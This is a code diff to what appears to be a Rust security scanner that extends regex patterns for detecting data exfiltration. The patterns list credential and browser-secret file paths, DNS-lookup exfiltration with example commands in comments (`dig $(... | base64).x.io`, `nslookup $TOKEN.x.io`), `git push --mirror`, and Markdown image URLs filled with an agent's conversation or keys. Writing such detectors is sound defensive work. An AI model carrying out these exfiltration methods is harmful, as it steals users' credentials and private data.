@@ -22,7 +22,7 @@ use super::{finding, first_bytes, instructions, last_bytes};
 /// hold public keys and host names, and are not among them.
 macro_rules! secret_files {
     () => {
-        r"(?:(?:~|\$HOME|\$\{HOME\}|/root|/home/[\w.-]+)/\.(?:ssh|aws)/?(?:[\s\x22'`)*]|$)|(?:~|\$HOME|\$\{HOME\})?/?(?:\.ssh/id[_*]|\.aws/credentials|\.netrc|\.git-credentials|\.docker/config\.json|\.kube/config|\.env\b|etc/passwd|etc/shadow|proc/self/environ))"
+        r"(?:(?:~|\$HOME|\$\{HOME\}|/root|/home/[\w.-]+)/\.(?:ssh|aws)/?(?:[\s\x22'`)*]|$)|(?:~|\$HOME|\$\{HOME\})?/?(?:\.ssh/id[_*]|\.aws/credentials|\.netrc|\.git-credentials|\.docker/config\.json|\.kube/config|\.env\b|etc/passwd|etc/shadow|proc/self/environ|\.(?:bash|zsh|python|psql|mysql)_history\b|\.gnupg/|\.config/gcloud/|\.pypirc\b|Login\x20Data\b|cookies\.sqlite|logins\.json|key4\.db))"
     };
 }
 
@@ -53,6 +53,12 @@ pub(crate) static EXFILTRATION: LazyLock<Regex> = security_regex!(concat!(
     // ..."), which `sent` reads the same way.
     r"|",
     secret_files!(),
+    // Data in the name of a DNS lookup (`dig $(... | base64).x.io`, `nslookup $TOKEN.x.io`),
+    // which the resolvers on the way hand to the zone's server.
+    r"|\b(?:dig|nslookup|host|drill|Resolve-DnsName)\s+(?:[^\n|;&]*\s)?(?:\$\([^)\n]*\)+|\$\{?\w+\}?|`[^`\n]*`)[^\s]*\.[\w-]+\.[a-z]{2,}\b",
+    r"|\bgethostbyname\s*\(\s*(?:f['\x22][^'\x22\n]*\{|[\w.\[\]()]+\s*\+\s*['\x22]\.)",
+    // A repository pushed whole to another remote.
+    r"|\bgit\s+push\s+(?:[^\n;&|]*\s)?--mirror\b",
     // A Markdown image whose URL is filled in with what the agent knows: fetching it sends it.
     r"|!\[[^\[\]\n]*\]\(\s*https?://[^)\s]*\?[^)\s]*(?:\{[^}\s)]*(?:conversation|history|chat|messages?|prompt|secrets?|tokens?|keys?|passwords?|env|data|context|summary|user|query|input)[^}\s)]*\}|\$\{?[A-Z_]*(?:KEY|TOKEN|SECRET|PASSWORD)\b)",
 ));
